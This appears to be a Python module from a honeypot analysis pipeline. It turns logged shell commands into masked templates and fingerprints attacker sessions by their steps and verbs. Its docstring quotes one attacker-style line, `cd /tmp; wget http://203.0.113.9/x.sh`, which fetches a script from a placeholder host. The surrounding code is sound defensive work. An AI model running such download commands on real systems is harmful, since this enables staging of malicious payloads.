"""A command or request with names, numbers and addresses left out, and what a session did as a row of those.

`cd /tmp; wget http://203.0.113.9/x.sh` and the same with another host are one template. Every pattern takes linear
time, and lines are cut.
"""

import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from functools import lru_cache
from hashlib import sha256

from rustbucket_pipeline.analysis.vocabulary import known_words

LONGEST_LINE = 256
MOST_TOKENS = 24
MOST_STEPS = 40
MOST_VERBS = 10

_TOKEN = re.compile(
    r"""(?P<url>[a-z][a-z0-9+]{1,12}://[^\s"'<>|;&`^{}()]+)
      | (?P<ip>(?<![\w.])(?:[0-9]{1,3}\.){3}[0-9]{1,3}(?::[0-9]{1,5})?(?![\w.]))
      | (?P<path>[~.]{0,2}/[^\s"'|;&<>()`]*)
      | (?P<flag>(?<!\w)--?[a-z][a-z0-9-]*)
      | (?P<word>[a-z_][\w.+-]*)
      | (?P<number>[0-9][\w.]*)
      | (?P<operator>\|\||&&|>>|[|;&<>])""",
    re.IGNORECASE | re.ASCII | re.VERBOSE,
)
_PART = re.compile(r"[\w%+-]+", re.ASCII)
_DIGITS = re.compile(r"[0-9]+")
_PLACEHOLDERS = {"url": "<url>", "ip": "<ip>", "number": "<n>"}
_NEXT_COMMAND = frozenset({"|", "||", "&&", ";", "&"})


@dataclass(frozen=True, slots=True)
class Behaviour:
    """What sessions of one fingerprint did. `steps` are templates, `verbs` what they begin with: the shape."""

    fingerprint: str
    steps: tuple[str, ...]
    verbs: tuple[str, ...]


@lru_cache(maxsize=50_000)
def template_of(line: str) -> tuple[str, tuple[str, ...]]:
    """The line's template and verbs."""
    tokens: list[str] = []
    verbs: list[str] = []
    first = True
    for found in _TOKEN.finditer(line[:LONGEST_LINE]):
        token = _masked(str(found.lastgroup), found[0])
        if token in _NEXT_COMMAND:
            first = True
        elif first:
            verbs.append(token)
            first = False
        if not tokens or tokens[-1] != token:
            tokens.append(token)
    if len(tokens) > MOST_TOKENS:
        tokens = [*tokens[:MOST_TOKENS], "…"]
    return " ".join(tokens), tuple(verbs[:MOST_VERBS])


def behaviour_of(protocol: str | None, kinds: Sequence[str], lines: Iterable[str]) -> Behaviour:
    """The behaviour of a session: what it is of (login, mail, …) and its lines in order, repetitions once."""
    steps: list[str] = list(kinds)
    verbs: dict[str, None] = dict.fromkeys(kinds)
    for line in lines:
        template, begins = template_of(line)
        if len(steps) < MOST_STEPS and (not steps or steps[-1] != template):
            steps.append(template)
        verbs.update(dict.fromkeys(begins))
    said = "\n".join((protocol or "", *steps))
    fingerprint = sha256(said.encode("utf-8", "backslashreplace")).hexdigest()[:16]
    return Behaviour(fingerprint, tuple(steps), tuple(verbs)[:MOST_VERBS])


def shape_of(protocol: str | None, verbs: Iterable[str]) -> str:
    """What many behaviours have in common: the verbs, in any order."""
    return f"{protocol or ''} {' '.join(sorted(verbs))}"


def _masked(kind: str, text: str) -> str:
    if kind in _PLACEHOLDERS:
        return _PLACEHOLDERS[kind]
    plain = text.lower()
    match kind:
        case "path":
            return _masked_path(text)
        case "flag":
            return text if len(text) <= 4 or plain.lstrip("-") in known_words() else "-<w>"
        case "word":
            return plain if plain in known_words() else "<w>"
        case _:
            return text


def _masked_path(path: str) -> str:
    return _PART.sub(_masked_part, path)[:80]


def _masked_part(found: re.Match[str]) -> str:
    part = found[0].lower()
    if part in known_words():
        return part
    return "<n>" if _DIGITS.fullmatch(part) else "<w>"
